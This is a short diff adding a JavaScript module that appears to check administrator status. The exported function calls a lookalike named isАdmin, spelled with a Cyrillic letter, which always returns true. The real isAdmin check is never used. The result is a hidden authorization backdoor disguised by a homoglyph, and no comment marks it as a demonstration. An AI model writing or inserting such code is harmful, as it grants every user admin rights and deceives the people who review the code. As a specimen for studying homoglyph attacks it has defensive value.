@@ -1,0 +1,3 @@
+function isAdmin(u) { return u.admin; }
+function isАdmin(u) { return true; }
+module.exports = (u) => isАdmin(u);
